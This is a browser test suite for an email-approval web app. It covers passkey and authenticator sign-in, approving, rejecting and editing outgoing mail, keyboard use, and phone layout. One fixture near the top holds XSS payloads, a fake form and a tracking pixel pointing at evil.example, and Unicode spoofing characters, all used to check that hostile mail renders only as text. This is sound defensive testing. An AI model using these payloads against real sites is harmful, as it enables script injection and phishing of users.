/** The pages for people in a real browser: Debian's Chromium, with a virtual authenticator, at a desk and on a telephone, by keyboard alone. */
import { type Browser, type Page, devices } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { addPerson } from '../../server/identity/people/on-host.ts'
import { fromBase32, hotp, totpStep } from '../../server/identity/people/totp.ts'
import { openWindow, startChromium } from '../support/chromium.ts'
import { freePort } from '../support/free-port.ts'
import { type InProcess, startInProcess } from '../support/in-process.ts'
import { missingPeer } from '../support/peers.ts'
import { createRemoteMx } from '../support/remote-mx.ts'
import { describeOnOneEngine } from '../support/stores.ts'
import { createVirtualClock } from '../support/virtual-clock.ts'

const start = Date.UTC(2026, 10, 22, 12)
const minute = 60_000
const ann = 'ann@elsewhere.example'
const telephone = devices['Pixel 7']

/** What a sender of ill will puts into an email: nothing of it may become anything but text. */
const hostile = {
  subject: `<img src=x onerror=alert(1)> ${'A'.repeat(300)} \u202egnp.exe`,
  markdown: [
    '<script>alert(1)</script><img src="https://evil.example/pixel.gif" onerror="alert(2)"><svg onload=alert(3)>',
    '</pre></section><button>Approve</button><form action="https://evil.example"><input name="code"></form>',
    'Pay\u200b to \u2066evil\u2069 \u202ereversed\u202c.',
    '[click](javascript:alert(4)) {{constructor.constructor("alert(5)")()}}',
    'B'.repeat(20_000),
  ].join('\n\n'),
}

// Several starts of a browser, on a machine that may be busy.
const timeout = 90_000

describe.skipIf(missingPeer('chromium'))('a person in Chromium', () => {
  describeOnOneEngine('the pages', (_open, { newPlace }) => {
    let browser: Browser
    beforeAll(async () => {
      browser = await startChromium()
    }, timeout)
    afterAll(() => browser.close())

    async function open() {
      const port = await freePort()
      const origin = `http://localhost:${port}`
      const clock = createVirtualClock(start)
      const remote = await createRemoteMx({ extensions: [] })
      const env = { MULTIMAIL_HTTP_PORT: String(port), MULTIMAIL_PUBLIC_URL: origin }
      // Ann's host does not listen, so that what is written to her stays where a test can read it.
      const zone = {
        'remote.test': { MX: [{ priority: 10, exchange: 'mx.remote.test' }] },
        'mx.remote.test': { A: ['127.0.0.1'] },
        'elsewhere.example': { MX: [{ priority: 10, exchange: 'mx.elsewhere.example' }] },
        'mx.elsewhere.example': { A: ['127.0.0.99'] },
      }
      const app = await startInProcess({ place: await newPlace(), clock, zone, remote, env })
      const account = await app.account('ours.test', 'support')
      const { id: accountId } = await app.store.db.selectFrom('accounts').select('id').executeTakeFirstOrThrow()
      const added = await addPerson({ store: app.store, clock }, { accountId, address: ann, name: 'Ann', role: 'operator' })
      if (!added.ok) throw new Error(added.code)
      const send = async (more: object = {}): Promise<string> => {
        const letter = {
          to: ['bo@remote.test'],
          cc: ['cy@remote.test'],
          bcc: ['di@remote.test'],
          subject: 'An offer',
          markdown: 'It costs **5**.',
          ...more,
        }
        const { status, body } = await app.call(account.agent, 'POST', '/send_email', letter)
        if (status >= 300) throw new Error(JSON.stringify(body))
        return body.id as string
      }
      return { origin, clock, app, remote, send, agent: account.agent, hostCode: added.value.code }
    }

    const enter = async (page: Page, code: string): Promise<void> => {
      await page.goto('/session')
      await page.getByLabel('Code', { exact: true }).fill(code)
      await page.getByRole('button', { name: 'Sign in', exact: true }).click()
      await page.getByRole('button', { name: 'Sign out', exact: true }).waitFor()
    }
    const said = (page: Page) => page.locator('output').textContent()
    const statusOf = async (app: InProcess, agent: string, id: string): Promise<string> =>
      (await app.call(agent, 'GET', `/read_email?email_id=${id}`)).body.status as string
    const mailedCode = async ({ store }: InProcess): Promise<string> => {
      const letter = await store.db
        .selectFrom('operator_mails')
        .select('body')
        .where('recipient', '=', ann)
        .orderBy('id', 'desc')
        .executeTakeFirst()
      return /^ {2}(\w{4}-\w{4})$/m.exec(letter?.body ?? '')?.[1] ?? 'none'
    }
    /** Asks for a code as the page does, and waits until it is in the letter. */
    async function askForCode(page: Page, app: InProcess): Promise<string> {
      const before = await mailedCode(app)
      await page.getByLabel('Your address').fill(ann)
      await page.getByRole('button', { name: 'Mail me a code' }).click()
      await page.getByText('Look into your mail.').waitFor()
      for (;;) {
        const code = await mailedCode(app)
        if (code !== before) return code
      }
    }
    const isTooWide = 'document.documentElement.scrollWidth > document.documentElement.clientWidth'

    it('signs in with the code of the host, makes a passkey, and signs in with that', { timeout }, async () => {
      const { origin, hostCode } = await open()
      const { page, troubles } = await openWindow(browser, origin)
      await enter(page, hostCode)
      await page.getByRole('button', { name: 'Add a passkey' }).click()
      await page.getByText(/^Passkey of /).waitFor()
      await page.getByRole('button', { name: 'Sign out', exact: true }).click()
      await page.getByRole('button', { name: 'Sign in with a passkey' }).click()
      await page.getByRole('heading', { name: 'Ann (operator)' }).waitFor()
      await page.getByRole('button', { name: 'Remove', exact: true }).click()
      await page.getByText(/^Passkey of /).waitFor({ state: 'detached' })
      await page.getByRole('button', { name: 'Sign out everywhere' }).click()
      await page.getByRole('button', { name: 'Mail me a code' }).waitFor()
      expect(troubles).toEqual([])
    })

    it('signs in with a mailed code, and with six digits besides once there is an authenticator program', { timeout }, async () => {
      const { origin, clock, app, hostCode } = await open()
      const { page, troubles } = await openWindow(browser, origin)
      await enter(page, hostCode)
      await page.getByRole('button', { name: 'Add an authenticator program' }).click()
      await page.getByRole('button', { name: 'Confirm' }).waitFor()
      const secret = fromBase32((await page.locator('#totp-secret').textContent()) ?? '')
      const digits = (): string => hotp(secret, totpStep(clock.now()))
      await page.getByLabel('Six digits', { exact: true }).fill(digits())
      await page.getByRole('button', { name: 'Confirm' }).click()
      await page.getByRole('button', { name: 'Remove the authenticator program' }).waitFor()
      await page.getByRole('button', { name: 'Sign out', exact: true }).click()
      // A minute that goes by while it is done is more than the store has time for.
      await page.getByRole('button', { name: 'Mail me a code' }).waitFor()
      await clock.advance(minute)
      const code = await askForCode(page, app)
      await page.getByLabel('Code', { exact: true }).fill('AAAA-AAAA')
      await page.keyboard.press('Enter')
      await page.locator('output.bad').waitFor()
      await page.getByLabel('Code', { exact: true }).fill(code)
      await page.keyboard.press('Enter')
      await page.getByLabel('Six digits of your authenticator program').fill(digits())
      await page.keyboard.press('Enter')
      await page.getByRole('heading', { name: 'Ann (operator)' }).waitFor()
      expect(await said(page)).toBe('')
      expect(troubles).toEqual([])
    })

    it('sees every recipient and each hidden character, approves and rejects; what is hostile stays text', { timeout }, async () => {
      const { origin, app, agent, remote, send, hostCode } = await open()
      const good = await send()
      const bad = await send(hostile)
      const { page, troubles, ask } = await openWindow(browser, origin)
      await enter(page, hostCode)
      const card = page.locator('main section').filter({ hasText: 'gnp.exe' })
      await card.waitFor()
      for (const words of [
        '⟨U+202E⟩gnp.exe',
        '<img src=x onerror=alert(1)>',
        '<script>alert(1)</script>',
        'Pay⟨U+200B⟩ to ⟨U+2066⟩evil⟨U+2069⟩',
        'cy@remote.test',
        'di@remote.test',
      ])
        expect(await card.textContent()).toContain(words)
      expect(await page.locator('main script, main img, main svg, main form, main a, main iframe').count()).toBe(0)
      expect(await card.getByRole('button', { name: 'Approve' }).count()).toBe(1)
      expect(await ask(isTooWide)).toBe(false)

      await card.getByRole('button', { name: 'Reject' }).click()
      await page.locator('output.bad').waitFor()
      expect(await statusOf(app, agent, bad)).toBe('pending_approval')
      await card.getByRole('textbox').fill('Somebody plays tricks.')
      await card.getByRole('button', { name: 'Reject' }).click()
      await page.getByText('It is refused and will not be sent or shown.').waitFor()
      expect(await statusOf(app, agent, bad)).toBe('rejected')
      await page.locator('main section').filter({ hasText: 'An offer' }).getByRole('button', { name: 'Approve' }).click()
      await page.getByText('Nothing waits for a decision.').waitFor()
      await app.drain()
      expect((await remote.received(3)).flatMap(({ forwardPaths }) => forwardPaths).toSorted()).toEqual([
        'bo@remote.test',
        'cy@remote.test',
        'di@remote.test',
      ])
      expect(await statusOf(app, agent, good)).toMatch(/sent|delivered/)
      expect(troubles).toEqual([])
    })

    it('changes the words, shows what differs, approves that, and takes it back before it leaves', { timeout }, async () => {
      const { origin, app, agent, remote, clock, send, hostCode } = await open()
      await app.store.db.updateTable('mailboxes').set({ undo_seconds: 60 }).execute()
      const id = await send()
      const { page, troubles } = await openWindow(browser, origin)
      await enter(page, hostCode)
      await page.getByRole('button', { name: 'Change its words' }).click()
      await page.getByLabel('Text, in Markdown').fill('It costs **6**.')
      await page.getByRole('button', { name: 'Compose it anew, and look at it' }).click()
      await page.getByText('It is composed anew and waits.').waitFor()
      await page.getByText('What differs from before').click()
      await page.locator('del', { hasText: '5' }).waitFor()
      await page.locator('ins', { hasText: '6' }).waitFor()

      const approve = page.getByRole('button', { name: 'Approve' })
      await approve.click()
      await page.getByRole('button', { name: 'Take the approval back' }).click()
      await approve.waitFor()
      expect(await statusOf(app, agent, id)).toBe('pending_approval')
      await approve.click()
      await page.getByText('Nothing waits for a decision.').waitFor()
      expect(await remote.received(0)).toEqual([])
      await clock.advance(minute + 1)
      await app.drain()
      const sent = await remote.received(3)
      expect(sent.map(({ raw }) => raw.toString()).filter((raw) => !raw.includes('It costs **6**.'))).toEqual([])
      expect(troubles).toEqual([])
    })

    it('says so when somebody else has decided meanwhile, and shows what waits now', { timeout }, async () => {
      const { origin, app, agent, send, hostCode } = await open()
      const id = await send()
      const { page, troubles } = await openWindow(browser, origin)
      await enter(page, hostCode)
      const approve = page.getByRole('button', { name: 'Approve' })
      await approve.waitFor()
      expect((await app.call(agent, 'POST', '/cancel_message', { email_id: id })).status).toBe(200)
      await approve.click()
      await page.locator('output.bad').waitFor()
      await page.getByText('Nothing waits for a decision.').waitFor()
      expect(troubles).toEqual([])
    })

    it('does all of it with the keyboard', { timeout }, async () => {
      const { origin, app, agent, send, hostCode } = await open()
      const [first, second] = [await send({ subject: 'First' }), await send({ subject: 'Second' })]
      const { page, troubles, ask } = await openWindow(browser, origin)
      await page.goto('/session')
      /** Tab until the element with the focus has this name. */
      const tabTo = async (name: string): Promise<void> => {
        for (let n = 0; n < 40; n += 1) {
          await page.keyboard.press('Tab')
          const focused = await ask(
            '(document.activeElement.labels?.[0]?.textContent ?? document.activeElement.ariaLabel ?? document.activeElement.textContent).trim()',
          )
          if (String(focused).startsWith(name)) return
        }
        throw new Error(`nobody comes to ${name} with Tab`)
      }
      await tabTo('Code')
      await page.keyboard.type(hostCode)
      await page.keyboard.press('Enter')
      await page.getByRole('heading', { name: 'Second' }).waitFor()
      await tabTo('Why not, in your words')
      await page.keyboard.type('Not now.')
      await tabTo('Reject')
      await page.keyboard.press('Space')
      await page.getByRole('heading', { name: 'Second' }).waitFor({ state: 'detached' })
      // Whoever has just decided stands at what waits next, not at the top of the page.
      expect(await ask("document.activeElement.closest('main') !== null")).toBe(true)
      await tabTo('Approve')
      await page.keyboard.press('Enter')
      await page.getByText('Nothing waits for a decision.').waitFor()
      expect([await statusOf(app, agent, first), await statusOf(app, agent, second)]).toEqual([
        expect.stringMatching(/sent|delivered/),
        'rejected',
      ])
      expect(troubles).toEqual([])
    })

    it('fits a telephone: nothing is wider than it, and what is pressed is large enough', { timeout }, async () => {
      const { origin, send, hostCode } = await open()
      await send(hostile)
      const { page, troubles, ask } = await openWindow(browser, origin, telephone)
      await page.goto('/session')
      expect(await ask(isTooWide)).toBe(false)
      await enter(page, hostCode)
      await page.getByRole('button', { name: 'Approve' }).waitFor()
      expect(await ask(isTooWide)).toBe(false)
      // WCAG 2.2 §2.5.8 asks for 24 CSS pixels.
      for (const button of await page.getByRole('button').all()) {
        const box = await button.boundingBox()
        expect(Math.min(box?.height ?? 0, box?.width ?? 0)).toBeGreaterThanOrEqual(24)
      }
      expect(troubles).toEqual([])
    })

    it('decides by a mailed link, whose page has no program and fits a telephone', { timeout }, async () => {
      const { origin, clock, app, agent, send } = await open()
      const id = await send(hostile)
      await clock.advance(minute)
      await app.until(() => app.count('periodic.done') > 0)
      const letter = async () =>
        (await app.store.db.selectFrom('operator_mails').select('body').where('recipient', '=', ann).executeTakeFirst())?.body
      const { page, troubles } = await openWindow(browser, origin, { ...telephone, javaScriptEnabled: false })
      while ((await letter()) === undefined);
      const link = /\/approve\/[\w-]{43}/.exec((await letter()) ?? '')?.[0] ?? ''
      await page.goto(link)
      expect(await page.locator('body').textContent()).toContain('⟨U+202E⟩gnp.exe')
      expect(await page.locator('script, img, svg, iframe').count()).toBe(0)
      await page.getByRole('button', { name: 'Reject' }).click()
      await page.locator('.bad').waitFor()
      await page.getByRole('button', { name: 'Approve' }).click()
      await page.getByText('It was released').waitFor()
      expect(await statusOf(app, agent, id)).toMatch(/sent|delivered/)
      await page.goto(link)
      expect(await page.locator('body').textContent()).toContain('does not wait any more')
      expect(troubles).toEqual([])
    })
  })
})
